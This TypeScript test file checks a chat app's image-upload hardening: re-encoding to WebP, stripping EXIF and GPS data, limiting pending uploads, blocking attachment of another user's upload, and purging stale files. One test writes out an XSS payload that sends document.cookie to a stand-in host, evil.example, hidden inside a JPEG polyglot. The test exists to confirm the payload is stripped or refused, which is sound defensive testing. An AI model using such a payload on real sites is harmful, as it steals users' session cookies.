import { inArray, sql } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localFileStorage } from '../adapters/storage/file-storage.js';
import { chatUploads } from '../db/schema/chat.js';
import { purgeStaleUploads } from '../modules/chat/chat-attachments.js';
import { API, buildTestApp, call, type TestApp } from '../test/build-app.js';
import { createCustomer, createMerchant, createStore, customerToken, seedPlaces } from '../test/factories.js';

/**
 * Issue 31 finding 9: chat images were stored byte for byte. EXIF GPS reached the other party, a
 * JPEG header followed by a script was stored and served, and uploads never attached were
 * unlimited. Now every photo is re-encoded (WebP, metadata dropped), only its uploader may attach
 * it, at most CHAT_UPLOADS_PENDING_MAX wait unattached, and a day later those are deleted.
 */
let test: TestApp;
beforeAll(async () => {
  test = await buildTestApp({ env: { CHAT_UPLOADS_PENDING_MAX: '3' } });
  await seedPlaces(test.app.db);
});
afterAll(async () => test?.close());

/** A 64 x 48 JPEG carrying EXIF with GPS coordinates (Nairobi CBD) and a camera model. */
async function jpegWithGps() {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 80, b: 40 } } })
    .jpeg()
    .withExif({
      IFD0: { Model: 'SecretPhone 9', Copyright: 'Amina' },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '1/1 17/1 3160/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '36/1 49/1 1884/100',
      },
    })
    .toBuffer();
}

async function customerWithConversation() {
  const user = await createCustomer(test.app.db);
  const token = await customerToken(test, user.id);
  const merchant = await createMerchant(test.app.db);
  const store = await createStore(test.app.db, { merchantId: merchant.id });
  const created = await call(test.app, 'POST', `${API}/chat/conversations`, {
    token,
    body: { storeId: store.id },
  });
  return { user, token, conversationId: created.json().data.conversationId as string };
}

const upload = (token: string, body: Buffer, type = 'image/jpeg') =>
  call(test.app, 'POST', `${API}/chat/attachments`, { token, headers: { 'content-type': type }, body });

const sendImage = (token: string, conversationId: string, attachmentUrl: string) =>
  call(test.app, 'POST', `${API}/chat/messages`, {
    token,
    body: { conversationId, content: '', messageType: 'image', attachmentUrl },
  });

describe('chat images are re-encoded', () => {
  it('drops EXIF (GPS, camera) and serves a WebP of the same picture', async () => {
    const { token } = await customerWithConversation();
    const original = await jpegWithGps();
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const response = await upload(token, original);
    expect(response.statusCode).toBe(201);
    const served = await test.app.inject({ method: 'GET', url: response.json().data.url });
    expect(served.headers['content-type']).toBe('image/webp');
    const meta = await sharp(served.rawPayload).metadata();
    expect({ format: meta.format, width: meta.width, height: meta.height, exif: meta.exif }).toEqual({
      format: 'webp',
      width: 64,
      height: 48,
      exif: undefined,
    });
    expect(served.rawPayload.includes('SecretPhone')).toBe(false);
  });

  it('a JPEG followed by a script is stored without the script; a JPEG header with only a script is refused', async () => {
    const { token } = await customerWithConversation();
    const script = Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>');
    const polyglot = Buffer.concat([await jpegWithGps(), script]);
    const stored = await upload(token, polyglot);
    expect(stored.statusCode).toBe(201);
    const served = await test.app.inject({ method: 'GET', url: stored.json().data.url });
    expect(served.rawPayload.includes('<script>')).toBe(false);
    const headerOnly = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), script]);
    const refused = await upload(token, headerOnly);
    expect(refused.statusCode).toBe(400);
    expect(refused.json().code).toBe('ATTACHMENT_NOT_IMAGE');
  });
});

describe('uploads waiting to be sent', () => {
  it('at most 3 unattached per sender (429 CHAT_UPLOADS_PENDING_LIMIT); sending one frees a place', async () => {
    const { token, conversationId } = await customerWithConversation();
    const jpeg = await jpegWithGps();
    const urls: string[] = [];
    for (let i = 0; i < 3; i += 1) urls.push((await upload(token, jpeg)).json().data.url);
    const fourth = await upload(token, jpeg);
    expect(fourth.statusCode).toBe(429);
    expect(fourth.json().code).toBe('CHAT_UPLOADS_PENDING_LIMIT');
    expect((await sendImage(token, conversationId, urls[0]!)).statusCode).toBe(201);
    expect((await upload(token, jpeg)).statusCode).toBe(201);
  });

  it("another sender's upload cannot be attached", async () => {
    const owner = await customerWithConversation();
    const other = await customerWithConversation();
    const url = (await upload(owner.token, await jpegWithGps())).json().data.url as string;
    const stolen = await sendImage(other.token, other.conversationId, url);
    expect(stolen.statusCode).toBe(400);
    expect(stolen.json().errors).toEqual({ attachmentUrl: 'Invalid attachment' });
  });

  it('a day later the unattached ones are deleted, files included; attached ones stay', async () => {
    const { token, conversationId } = await customerWithConversation();
    const jpeg = await jpegWithGps();
    const kept = (await upload(token, jpeg)).json().data.url as string;
    const dropped = (await upload(token, jpeg)).json().data.url as string;
    expect((await sendImage(token, conversationId, kept)).statusCode).toBe(201);
    await test.app.db
      .update(chatUploads)
      .set({ createdAt: sql`now() - interval '25 hours'` })
      .where(
        inArray(
          chatUploads.name,
          [kept, dropped].map((url) => url.split('/').at(-1)!),
        ),
      );
    const purged = await purgeStaleUploads(test.app.db, localFileStorage(test.config.dataDir));
    expect(purged).toBe(1);
    expect((await test.app.inject({ method: 'GET', url: dropped })).statusCode).toBe(404);
    expect((await test.app.inject({ method: 'GET', url: kept })).statusCode).toBe(200);
  });
});
